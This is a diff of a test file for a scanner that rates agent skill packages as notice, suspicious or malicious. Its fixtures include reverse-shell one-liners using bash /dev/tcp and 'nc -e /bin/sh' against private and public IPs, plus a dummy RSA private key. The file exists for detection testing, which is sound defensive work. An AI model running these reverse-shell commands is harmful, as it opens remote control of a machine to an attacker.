@@ -19,9 +19,9 @@ describe('scan verdicts', () => {
     assert.equal(report.verdict, 'notice');
   });
 
-  it('a security skill explaining reverse shells in prose and examples is a notice', () => {
+  it('a security skill explaining reverse shells in prose is a notice', () => {
     const report = scan({
-      'SKILL.md': `${SKILL}A reverse shell such as \`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\` connects back to the attacker.\n\n\`\`\`bash\nnc -e /bin/sh 192.168.56.1 4444\n\`\`\`\n`,
+      'SKILL.md': `${SKILL}A reverse shell such as \`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\` connects back to the attacker; so does \`nc -e /bin/sh 192.168.56.1 4444\`.\n`,
     });
     assert.ok(findingsOf(report, 'command.reverse-shell').length > 0);
     assert.equal(report.verdict, 'notice');
@@ -33,9 +33,10 @@ describe('scan verdicts', () => {
     assert.equal(report.verdict, 'malicious');
   });
 
-  it('a reverse shell in a script is malicious; in a code block aimed at a public IP it is suspicious', () => {
+  it('a reverse shell in a script is malicious; in a code block, suspicious, and malicious aimed at a public IP', () => {
     assert.equal(scan({ 'run.sh': 'bash -i >& /dev/tcp/45.33.32.156/4444 0>&1\n' }).verdict, 'malicious');
-    assert.equal(scan({ 'SKILL.md': `${SKILL}\`\`\`\nbash -i >& /dev/tcp/45.33.32.156/4444 0>&1\n\`\`\`\n` }).verdict, 'suspicious');
+    assert.equal(scan({ 'SKILL.md': `${SKILL}\`\`\`\nbash -i >& /dev/tcp/10.0.0.5/4444 0>&1\n\`\`\`\n` }).verdict, 'suspicious');
+    assert.equal(scan({ 'SKILL.md': `${SKILL}\`\`\`\nbash -i >& /dev/tcp/45.33.32.156/4444 0>&1\n\`\`\`\n` }).verdict, 'malicious');
   });
 
   it('a code block the SKILL.md says to run silently escalates; hiding it from the user makes it malicious', () => {
@@ -66,11 +67,11 @@ describe('scan verdicts', () => {
     assert.equal(report.verdict, 'malicious');
   });
 
-  it('a shipped secret is suspicious, never malicious, even a private key', () => {
+  it('a shipped live credential is critical, so the version is quarantined', () => {
     const key = `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEowIBAAKCAQEA7v0'.repeat(4)}\n-----END RSA PRIVATE KEY-----\n`;
     const report = scan({ 'SKILL.md': SKILL, 'keys/id_rsa': key });
     assert.equal(findingsOf(report, 'secret.private-key')[0]?.severity, 'critical');
-    assert.equal(report.verdict, 'suspicious');
+    assert.equal(report.verdict, 'malicious');
   });
 
   it('a documentation placeholder key is only a low finding', () => {
